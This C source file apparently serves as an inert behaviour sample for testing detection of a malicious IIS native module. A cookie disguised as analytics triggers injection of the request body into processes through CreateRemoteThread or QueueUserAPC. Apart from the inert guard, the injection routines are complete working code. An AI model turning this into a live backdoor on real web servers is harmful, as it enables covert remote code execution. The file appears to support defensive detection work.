/*
 * Behaviour sample 2 (x64 native module, RegisterModule): process injection
 * triggered by a cookie value.
 *
 * Imitates a module whose OnBeginRequest reads the request cookies through
 * IHttpContext::GetServerVariable("HTTP_COOKIE"), and when the cookie
 * "__utmv_sess" carries a marker, takes the request body
 * (IHttpRequest::ReadEntityBody) as code and injects it two ways:
 * OpenProcess + VirtualAllocEx + WriteProcessMemory + CreateRemoteThread
 * into an existing process, and CreateProcessA
 * (CREATE_SUSPENDED) + VirtualAllocEx + WriteProcessMemory + QueueUserAPC +
 * ResumeThread into a new one. Varies: no known factory/class name, no
 * injection target name, cookie name looks like analytics.
 *
 * Inert: everything is behind `if (k_inert)` (volatile const 0); process id
 * 0, NULL handles, a program path that does not exist; RegisterModule
 * returns E_NOTIMPL so IIS would refuse the module.
 */
#define INERT_NATIVE_MODULE
#include "inert.h"
#include <string.h>

static const char k_cookie_var[] = "HTTP_COOKIE";
static const char k_cookie_name[] = "__utmv_sess=";
static const char k_cookie_marker[] = "sync2";

static NOINLINE BOOL inject_existing(DWORD pid, const BYTE *code, SIZE_T cb)
{
    SIZE_T written = 0;
    HANDLE h = OpenProcess(PROCESS_CREATE_THREAD | PROCESS_VM_OPERATION |
                           PROCESS_VM_WRITE, FALSE, pid);
    LPVOID remote = VirtualAllocEx(h, NULL, cb, MEM_COMMIT | MEM_RESERVE,
                                   PAGE_EXECUTE_READWRITE);
    if (!WriteProcessMemory(h, remote, code, cb, &written))
        return FALSE;
    HANDLE t = CreateRemoteThread(h, NULL, 0, (LPTHREAD_START_ROUTINE)remote,
                                  NULL, 0, NULL);
    CloseHandle(t);
    CloseHandle(h);
    return TRUE;
}

static NOINLINE BOOL inject_new(const BYTE *code, SIZE_T cb)
{
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    SIZE_T written = 0;

    ZeroMemory(&si, sizeof(si));
    ZeroMemory(&pi, sizeof(pi));
    si.cb = sizeof(si);
    if (!CreateProcessA(INERT_EXE, NULL, NULL, NULL, FALSE,
                        CREATE_SUSPENDED | CREATE_NO_WINDOW, NULL, NULL, &si, &pi))
        return FALSE;
    LPVOID remote = VirtualAllocEx(pi.hProcess, NULL, cb,
                                   MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    WriteProcessMemory(pi.hProcess, remote, code, cb, &written);
    QueueUserAPC((PAPCFUNC)remote, pi.hThread, 0);
    ResumeThread(pi.hThread);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    return TRUE;
}

static NOINLINE DWORD on_begin_request(IHttpContextC *ctx)
{
    IHttpRequestC *req = ctx->lpVtbl->GetRequest(ctx);
    PCSTR cookies = NULL;
    DWORD cch = 0;
    const char *v;
    BYTE body[4096];
    DWORD got = 0;
    BOOL pending = FALSE;

    if (FAILED(ctx->lpVtbl->GetServerVariable(ctx, k_cookie_var, &cookies, &cch)) ||
        !cookies || !(v = strstr(cookies, k_cookie_name)))
        return RQ_NOTIFICATION_CONTINUE;
    v += sizeof(k_cookie_name) - 1;
    if (strncmp(v, k_cookie_marker, sizeof(k_cookie_marker) - 1) != 0)
        return RQ_NOTIFICATION_CONTINUE;
    if (FAILED(req->lpVtbl->ReadEntityBody(req, body, sizeof(body), FALSE,
                                           &got, &pending)) || got == 0)
        return RQ_NOTIFICATION_CONTINUE;
    if (v[sizeof(k_cookie_marker) - 1] == ':')
        inject_existing((DWORD)strtoul(v + sizeof(k_cookie_marker), NULL, 10),
                        body, got);
    else
        inject_new(body, got);
    return RQ_NOTIFICATION_CONTINUE;
}

/* The factory IIS would call; GetHttpModule hands back the module. */
static HRESULT __stdcall factory_get_module(IHttpModuleFactoryC *self,
                                            void **ppModule, void *pAllocator)
{
    (void)self;
    (void)pAllocator;
    *ppModule = NULL;
    return E_INERT;
}
static VOID __stdcall factory_terminate(IHttpModuleFactoryC *self) { (void)self; }
static const IHttpModuleFactoryVtbl k_factory_vtbl = {factory_get_module,
                                                      factory_terminate};
static IHttpModuleFactoryC g_factory = {&k_factory_vtbl};

HRESULT WINAPI RegisterModule(DWORD dwServerVersion,
                              IHttpModuleRegistrationInfoC *pModuleInfo,
                              IHttpServerC *pGlobalInfo)
{
    (void)dwServerVersion;
    (void)pGlobalInfo;
    if (k_inert) {
        pModuleInfo->lpVtbl->SetRequestNotifications(pModuleInfo, &g_factory,
                                                     RQ_BEGIN_REQUEST, 0);
        /* what the module's OnBeginRequest does on each request */
        on_begin_request((IHttpContextC *)pGlobalInfo);
        return S_OK;
    }
    return E_INERT;
}
